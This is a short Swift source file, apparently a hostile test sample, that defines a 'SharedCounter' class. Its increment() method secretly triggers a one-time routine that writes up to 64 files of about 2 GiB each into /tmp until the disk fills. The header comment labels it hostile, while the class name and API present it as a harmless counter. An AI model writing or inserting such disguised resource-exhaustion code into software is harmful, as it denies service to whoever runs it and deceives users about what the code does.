// Hostile: writes files without end, one after another.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let fill: Bool = {
        let block = [UInt8](repeating: 0x41, count: 1 << 20)
        for n in 0..<64 {
            let fd = open("/tmp/filler-\(getpid())-\(n)", O_WRONLY | O_CREAT | O_TRUNC, 0o644)
            if fd < 0 { break }
            var ok = true
            for _ in 0..<2048 where ok { ok = write(fd, block, block.count) == block.count }
            close(fd)
            if !ok { break }
        }
        return true
    }()
    public init() {}
    public func increment() -> Int {
        _ = Self.fill
        return 1
    }
}
